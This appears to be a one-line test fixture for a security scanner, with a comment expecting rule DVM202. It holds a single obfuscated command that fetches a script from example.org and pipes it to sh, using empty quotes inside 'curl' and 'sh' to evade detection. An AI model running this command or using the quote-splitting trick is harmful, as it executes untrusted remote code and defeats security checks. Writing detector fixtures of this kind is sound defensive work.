# expect: DVM202
cu''rl -s https://x.example.org/a | s''h
